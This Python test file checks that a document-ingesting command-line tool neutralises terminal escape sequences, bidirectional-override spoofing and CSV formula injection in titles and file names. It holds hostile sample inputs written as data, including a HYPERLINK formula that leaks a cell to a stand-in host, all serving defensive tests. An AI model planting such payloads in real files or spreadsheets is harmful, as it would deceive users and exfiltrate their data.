"""Text from documents and file names is shown safely: no control character or escape sequence
reaches a terminal, no CSV cell runs as a spreadsheet formula, and JSON keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

import docgen
from powdb.output import Format, render

ESC = "\x1b"
#: What a terminal would act on: C0 controls but the line break, DEL, C1 controls (\x9b is
#: CSI), bidirectional overrides and isolates.
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE_TITLE = f"Lienz{ESC}]0;pwned\x07 report{ESC}[2J \x9b31m\u202etxt.exe"
HOSTILE_FILE = f"a{ESC}[31m.txt"


@pytest.fixture
def hostile(tmp_path: Path, cli, db_url: str) -> str:
    """A conflict between two files, one with an escape sequence in its name and a title full
    of them, and a third file (binary, its name an escape sequence) that fails."""
    docgen.handover_report(tmp_path, "b.txt", [50_000])
    (tmp_path / "b.txt").rename(tmp_path / HOSTILE_FILE)
    docgen.handover_report(tmp_path, "c.txt", [4])
    assert cli("ingest", HOSTILE_FILE, "--title", HOSTILE_TITLE, "--db", db_url).exit_code == 0
    assert cli("ingest", "c.txt", "--db", db_url).exit_code == 0
    return db_url


def test_no_control_character_reaches_a_terminal(tmp_path: Path, cli, hostile: str) -> None:
    bad = f"bad{ESC}]0;pwned\x07.txt"
    (tmp_path / bad).write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(300))
    failed = cli("ingest", bad, "--db", hostile)
    assert failed.exit_code == 1
    assert "Error: bad?]0;pwned?.txt: looks like a PNG image" in failed.stderr
    outputs = [failed.stderr]
    for args in (["sources"], ["claims"], ["claims", "--conflicting"], ["claims", "--cite"]):
        result = cli(*args, "--format", "table", "--db", hostile)
        assert result.exit_code == 0, result.output
        outputs += [result.stdout, result.stderr]
    assert "Lienz?]0;pwned? report?[2J ?31m?txt.exe" in "".join(outputs)
    assert "a?[31m.txt" in "".join(outputs)
    for text in outputs:
        assert not UNSAFE.search(text), repr(text)


def test_rich_markup_in_a_title_is_shown_as_text(tmp_path: Path, cli, db_url: str) -> None:
    docgen.handover_report(tmp_path, "r.txt", [300])
    title = "[/oops] [bold red]Not bold[/bold red]"
    assert cli("ingest", "r.txt", "--title", title, "--db", db_url).exit_code == 0
    for command in ("sources", "claims"):
        table = cli(command, "--format", "table", "--db", db_url)
        assert table.exit_code == 0, table.output
        assert title in table.stdout


def test_machine_formats_keep_the_exact_text(cli, hostile: str) -> None:
    (source,) = [s for s in cli.json("sources", "--db", hostile) if s["title"]]
    assert source["title"] == HOSTILE_TITLE and source["path"].endswith("/" + HOSTILE_FILE)
    raw = cli("sources", "--db", hostile, "--format", "json").stdout
    assert "\\u009b" in raw and "\\u202e" in raw  # escaped, which JSON allows: the same text
    jsonl = cli("sources", "--db", hostile, "--format", "jsonl").stdout
    assert HOSTILE_TITLE in [json.loads(line)["title"] for line in jsonl.splitlines()]
    rows = csv.DictReader(io.StringIO(cli("sources", "--db", hostile, "-f", "csv").stdout))
    assert HOSTILE_TITLE in [row["title"] for row in rows]  # piped CSV is exact


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_csv_shown_on_a_terminal_has_no_control_characters() -> None:
    terminal = Terminal()
    render([{"title": HOSTILE_TITLE, "claims": 2}], Format.csv, stream=terminal)
    assert terminal.getvalue() == "title,claims\r\nLienz?]0;pwned? report?[2J ?31m?txt.exe,2\r\n"


FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"more")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_cell_never_starts_a_formula(formula: str, tmp_path: Path, cli) -> None:
    (tmp_path / "f.txt").write_text(f"{formula} About 300 prisoners of war were held.\n")
    args = ["--title", formula, "--note", formula, "--author", formula]
    assert cli("ingest", "f.txt", *args, "--db", "f.db").exit_code == 0
    (source,) = csv.DictReader(io.StringIO(cli("sources", "--db", "f.db", "-f", "csv").stdout))
    assert source["title"] == source["note"] == source["authors"] == "'" + formula
    claims = list(csv.DictReader(io.StringIO(cli("claims", "--db", "f.db", "-f", "csv").stdout)))
    assert claims and {claim["source_title"] for claim in claims} == {"'" + formula}
    assert (cli.json("sources", "--db", "f.db")[0]["title"]) == formula  # JSON is exact


def test_numbers_stay_numbers_in_csv(tmp_path: Path, cli) -> None:
    (tmp_path / "t.txt").write_text("The thermometer read minus 5 degrees at the camp.\n")
    assert cli("ingest", "t.txt", "--note", "-5", "--db", "t.db").exit_code == 0
    (claim,) = cli.json("claims", "--db", "t.db")
    assert claim["value"] == -5
    (row,) = csv.DictReader(io.StringIO(cli("claims", "--db", "t.db", "-f", "csv").stdout))
    assert row["value"] == "-5" and row["fig_low"].startswith("-")
    (source,) = csv.DictReader(io.StringIO(cli("sources", "--db", "t.db", "-f", "csv").stdout))
    assert source["note"] == "-5"  # text that is a plain number is not a formula either
